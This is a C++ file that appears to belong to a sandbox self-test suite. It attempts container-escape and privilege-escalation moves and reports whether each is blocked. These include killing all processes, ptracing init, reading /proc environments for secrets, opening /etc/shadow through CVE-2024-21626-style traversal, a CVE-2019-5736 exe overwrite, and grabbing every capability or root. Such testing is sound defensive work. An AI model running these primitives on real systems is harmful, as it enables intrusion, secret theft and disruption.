// Reaching other processes: signals, ptrace, /proc, inherited descriptors, regained privileges.
#include <dirent.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <csignal>
#include <cstdlib>
#include <limits>

#include "sandbox/selftest/probe/attack.h"

namespace casemate::escape {
namespace {

Outcome KillAll(Args /*args*/) {
  return OfCall(kill(-1, SIGKILL));
}

Outcome KillHostProcess(Args args) {
  return OfCall(kill(static_cast<pid_t>(NumberArg(args, 0, 1)),
                     static_cast<int>(NumberArg(args, 1, SIGKILL))));
}

// The kernel drops signals to a namespace's init silently, so success means that it is gone.
Outcome KillInit(Args args) {
  const Target target(args);
  if (kill(target.pid(), SIGKILL) != 0) {
    return Blocked(ErrnoName(errno));
  }
  if (TextArg(args, 0, "1") == "child") {
    return waitpid(target.pid(), nullptr, 0) == target.pid() ? Succeeded() : Blocked("alive");
  }
  return kill(target.pid(), 0) == 0 ? Blocked("init-immune") : Succeeded();
}

Outcome PtraceInit(Args args) {
  const Target target(args);
  return OfCall(ptrace(PTRACE_SEIZE, target.pid(), nullptr, nullptr));
}

Outcome ProcessVmRead(Args args) {
  const Target target(args);
  // A page that every process of this program has at the same address.
  static char page[4096] = "page";
  char copy[16] = {};
  const iovec local = {.iov_base = copy, .iov_len = sizeof copy};
  const iovec remote = {.iov_base = page, .iov_len = sizeof copy};
  return OfCall(process_vm_readv(target.pid(), &local, 1, &remote, 1, 0));
}

Outcome PidfdGetfd(Args args) {
  const Target target(args);
  const long pidfd = syscall(SYS_pidfd_open, target.pid(), 0);
  if (pidfd < 0) {
    return Blocked("pidfd_open:" + ErrnoName(errno));
  }
  return OfCall(syscall(SYS_pidfd_getfd, pidfd, 0, 0));
}

std::string ProcPath(Args args, const char* leaf) {
  const std::string pid = TextArg(args, 0, "1");
  return "/proc/" + pid + "/" + leaf;
}

// A file of the host, reached through another process's root or working directory.
Outcome ProcRoot(Args args) {
  return OfCall(open((ProcPath(args, "root") + TextArg(args, 1, "/")).c_str(), O_RDONLY));
}
Outcome ProcCwd(Args args) {
  const std::string climb = "/../../../../../../../../..";
  return OfCall(open((ProcPath(args, "cwd") + climb + TextArg(args, 1, "/")).c_str(), O_RDONLY));
}
Outcome ProcMem(Args args) {
  return OfCall(open(ProcPath(args, "mem").c_str(), O_RDWR));
}

// Looks for a variable in the environment of every process that /proc shows.
Outcome ProcEnviron(Args args) {
  const std::string wanted = TextArg(args, 0, "CASEMATE_ESCAPE_SECRET") + "=";
  DIR* proc = opendir("/proc");
  if (proc == nullptr) {
    return CannotTry(ErrnoName(errno));
  }
  Outcome outcome = Blocked("absent");
  while (const dirent* entry = readdir(proc)) {
    const std::string pid = entry->d_name;
    const bool number =
        std::all_of(pid.begin(), pid.end(), [](char c) { return c >= '0' && c <= '9'; });
    const std::string base = "/proc/" + pid;
    if ((number || pid == "self") &&
        ReadSome(base + "/environ", 1 << 20).find(wanted) != std::string::npos) {
      outcome = Succeeded(pid);
    }
  }
  closedir(proc);
  return outcome;
}

// CVE-2019-5736: reopen the running supervisor for writing through a descriptor of its image.
Outcome OverwriteExe(Args args) {
  const std::string path = TextArg(args, 0, "/proc/1/exe");
  const int image = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (image < 0) {
    return Blocked(ErrnoName(errno));
  }
  return OfCall(open(("/proc/self/fd/" + std::to_string(image)).c_str(), O_WRONLY));
}

Outcome InheritedFds(Args /*args*/) {
  DIR* fds = opendir("/proc/self/fd");
  if (fds == nullptr) {
    return CannotTry(ErrnoName(errno));
  }
  Outcome outcome = Blocked("none");
  while (const dirent* entry = readdir(fds)) {
    const std::string name = entry->d_name;
    const auto fd = static_cast<int>(NumberArg({&name, 1}, 0, -1));
    if (fd > 2 && fd != dirfd(fds)) {
      outcome = Succeeded(entry->d_name);
    }
  }
  closedir(fds);
  return outcome;
}

// CVE-2024-21626: a working directory or descriptor that leads out of the root.
Outcome ClimbOut(Args args) {
  const std::string path = "../../../../../../../../../.." + TextArg(args, 0, "/etc/shadow");
  if (openat(AT_FDCWD, path.c_str(), O_RDONLY) >= 0) {
    return Succeeded("cwd");
  }
  const std::string reason = ErrnoName(errno);
  for (int fd = 0; fd < 1024; ++fd) {
    if (openat(fd, path.c_str(), O_RDONLY) >= 0) {
      return Succeeded(std::to_string(fd));
    }
  }
  return Blocked(reason);
}

// A core of a process with secrets in memory must not reach the host.
Outcome RaiseCoreLimit(Args args) {
  const rlim_t wanted = static_cast<rlim_t>(NumberArg(args, 0, 1 << 20));
  const rlimit limit = {.rlim_cur = wanted, .rlim_max = wanted};
  return OfCall(setrlimit(RLIMIT_CORE, &limit));
}

Outcome CrashWithSecret(Args /*args*/) {
  volatile char secret[] = "CASEMATE-ESCAPE-SECRET-IN-MEMORY";
  if (secret[0] == 'C') {
    std::abort();
  }
  return CannotTry("not-reached");
}

Outcome CapsetAll(Args /*args*/) {
  __user_cap_header_struct header = {.version = _LINUX_CAPABILITY_VERSION_3, .pid = 0};
  __user_cap_data_struct data[2] = {};
  for (auto& half : data) {
    half.effective = half.permitted = half.inheritable = std::numeric_limits<unsigned>::max();
  }
  data[1].effective = data[1].permitted = data[1].inheritable = 0x1ff;  // up to CAP_CHECKPOINT
  return OfCall(syscall(SYS_capset, &header, data));
}

Outcome RaiseAmbient(Args /*args*/) {
  return OfCall(prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0));
}

Outcome ClearNoNewPrivs(Args /*args*/) {
  if (prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 0) {
    return Succeeded("not-set");
  }
  return OfCall(prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0));
}

Outcome BecomeRoot(Args /*args*/) {
  return OfCall(syscall(SYS_setresuid, 0, 0, 0));
}

// What set-uid or file-capability bits gave this process.
Outcome ReportPrivileges(Args /*args*/) {
  const std::string status = ReadSome("/proc/self/status");
  const std::size_t at = status.find("CapEff:\t");
  const std::string effective = at == std::string::npos ? "?" : status.substr(at + 8, 16);
  const bool gained = geteuid() == 0 || effective != std::string(16, '0');
  const std::string detail = "capeff=" + effective;
  return gained ? Succeeded(detail) : Blocked("no-gain");
}

// Executes a copy of this program that has set-uid or capability bits.
Outcome ExecPrivileged(Args args) {
  const std::string path = TextArg(args, 0, "./suid");
  execl(path.c_str(), path.c_str(), "report_privileges", nullptr);
  return Blocked("exec:" + ErrnoName(errno));
}

// The kernel's own choices under pressure: memory, CPU, disk, real-time.
Outcome LowerOomScore(Args /*args*/) {
  const int fd = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);
  return fd < 0 ? Blocked("open:" + ErrnoName(errno)) : OfCall(write(fd, "-1000", 5));
}
Outcome RealTimePriority(Args /*args*/) {
  const sched_param parameters = {.sched_priority = 1};
  return OfCall(sched_setscheduler(0, SCHED_FIFO, &parameters));
}
Outcome RaisePriority(Args /*args*/) {
  return OfCall(setpriority(PRIO_PROCESS, 0, -10));
}
Outcome RealTimeIo(Args /*args*/) {
  constexpr int kProcess = 1;
  constexpr int kRealTimeClass = 1 << 13;
  return OfCall(syscall(SYS_ioprio_set, kProcess, 0, kRealTimeClass));
}
Outcome LockMemory(Args args) {
  const std::size_t bytes = static_cast<std::size_t>(NumberArg(args, 0, 64)) << 20;
  void* block = mmap(nullptr, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  return block == MAP_FAILED ? CannotTry(ErrnoName(errno)) : OfCall(mlock(block, bytes));
}
Outcome RaiseFileLimit(Args /*args*/) {
  rlimit limit{};
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max = limit.rlim_max + 1;
  return OfCall(setrlimit(RLIMIT_NOFILE, &limit));
}

constexpr Attack kAttacks[] = {
    {"kill_all", 17, KillAll, true},
    {"kill_host_process", 17, KillHostProcess},
    {"kill_init", 17, KillInit},
    {"ptrace_init", 18, PtraceInit},
    {"process_vm_readv_init", 18, ProcessVmRead},
    {"pidfd_getfd_init", 18, PidfdGetfd},
    {"proc_root", 19, ProcRoot},
    {"proc_cwd", 19, ProcCwd},
    {"proc_mem", 19, ProcMem},
    {"proc_environ", 19, ProcEnviron},
    {"overwrite_exe", 20, OverwriteExe},
    {"inherited_fds", 21, InheritedFds},
    {"climb_out", 21, ClimbOut},
    {"lower_oom_score", 3, LowerOomScore},
    {"real_time_priority", 9, RealTimePriority},
    {"raise_priority", 9, RaisePriority},
    {"real_time_io", 9, RealTimeIo},
    {"lock_memory", 3, LockMemory},
    {"raise_file_limit", 7, RaiseFileLimit},
    {"raise_core_limit", 23, RaiseCoreLimit},
    {"crash_with_secret", 23, CrashWithSecret},
    {"capset_all", 24, CapsetAll},
    {"raise_ambient", 24, RaiseAmbient},
    {"clear_no_new_privs", 24, ClearNoNewPrivs},
    {"become_root", 24, BecomeRoot},
    {"report_privileges", 42, ReportPrivileges},
    {"exec_privileged", 42, ExecPrivileged},
};

}  // namespace

std::span<const Attack> ProcessAttacks() {
  return kAttacks;
}

}  // namespace casemate::escape
